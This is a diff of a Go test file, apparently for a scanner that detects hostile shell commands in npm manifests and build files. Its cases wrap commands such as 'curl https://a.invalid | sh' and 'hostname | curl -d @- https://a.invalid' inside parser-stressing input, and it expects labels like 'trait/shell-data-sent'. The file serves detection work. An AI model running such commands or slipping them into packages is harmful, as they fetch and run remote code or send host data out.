@@ -28,6 +28,10 @@ func TestHostileShellTexts(t *testing.T) {
 		{"programs that start each other", map[string]string{"package.json": manifest(strings.Repeat("nohup ", 40_000) + "x; curl https://a.invalid | sh")}, "trait/lifecycle-download"},
 		{"a shell file that is run without end", map[string]string{"package.json": `{"name": "a", "version": "1.0.0", "main": "x.js"}`,
 			"x.js": "const { exec } = require('child_process')\n" + strings.Repeat("exec('sh x.sh')\n", 3_000), "x.sh": strings.Repeat("true\n", 10_000) + "curl https://a.invalid | sh"}, "trait/shell-download"},
+		{"a pipe without end", map[string]string{"package.json": manifest("hostname" + strings.Repeat(" | [[ a ]]", 20_000) + "; hostname | curl -d @- https://a.invalid")}, "trait/shell-data-sent"},
+		{"programs in a pipe without end", map[string]string{"package.json": manifest(strings.Repeat("a | ", 40_000) + "hostname | curl -d @- https://a.invalid")}, "trait/shell-data-sent"},
+		{"substitutions in each other", map[string]string{"package.json": manifest(strings.Repeat("a $(", 20_000) + strings.Repeat(")", 20_000) + "; curl https://a.invalid/$(hostname)")}, "trait/shell-data-sent"},
+		{"substitutions without end", map[string]string{"package.json": manifest(strings.Repeat("V=$(hostname); curl https://a.invalid/$V$V$V$V;", 5_000))}, "trait/shell-data-sent"},
 		{"brackets that do not end", map[string]string{"package.json": manifest("true"), "binding.gyp": strings.Repeat("<!(", 80_000)}, ""},
 		{"actions that do not end", map[string]string{"package.json": manifest("true"), "binding.gyp": "'action': [" + strings.Repeat("'a', ", 40_000)}, ""},
 	} {
